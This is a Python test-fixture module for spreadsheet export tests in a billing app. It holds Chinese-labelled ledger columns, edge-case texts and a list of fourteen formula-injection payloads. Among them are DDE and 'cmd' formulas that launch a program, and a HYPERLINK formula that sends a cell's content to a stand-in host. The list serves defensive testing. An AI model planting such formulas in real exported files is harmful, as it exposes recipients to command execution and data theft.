"""Tables and hostile texts that the export tests share."""

from collections.abc import Sequence
from datetime import UTC, date, datetime

from propdesk.domain.tables import ColumnKind
from propdesk.exports.tables import ExportColumn, ExportTable, Row

# faults.md R24: fourteen ways to hide a formula, plus texts that must come through unharmed.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "\ufeff=1+1",
)
ODD_TEXTS = (
    "'=1+1",
    "''0101",
    "'",
    "_x0041_",
    "\x01\x02 tail ",
    "a<b>&\"c'",
    "王小明",
    "𠮷野",
    "line\r\nline",
    "",
)
COLUMNS = (
    ExportColumn("receipt", "收据号", ColumnKind.IDENTIFIER),
    ExportColumn("customer", "客户"),
    ExportColumn("period", "账期", ColumnKind.PERIOD),
    ExportColumn("amount", "金额", ColumnKind.MONEY),
    ExportColumn("lines", "笔数", ColumnKind.INTEGER),
    ExportColumn("day", "日期", ColumnKind.DATE),
    ExportColumn("moment", "时间", ColumnKind.MOMENT),
)
DAY = date(2026, 1, 5)
MOMENT = datetime(2026, 1, 5, 16, 30, 5, tzinfo=UTC)


def ledger_row(number: int) -> Row:
    """Return one ordinary row in COLUMNS."""
    return (f"D01-{number:08d}", "王小明", "2026-01", 123_456 + number, number, DAY, MOMENT)


def ledger(rows: Sequence[Row] | int = 3, totals: Row | None = None) -> ExportTable:
    """Return a table of the given rows, or of that many ordinary ones."""
    if isinstance(rows, int):
        rows = [ledger_row(number) for number in range(rows)]
    return ExportTable("收款台账", COLUMNS, rows, totals, made_at=MOMENT)
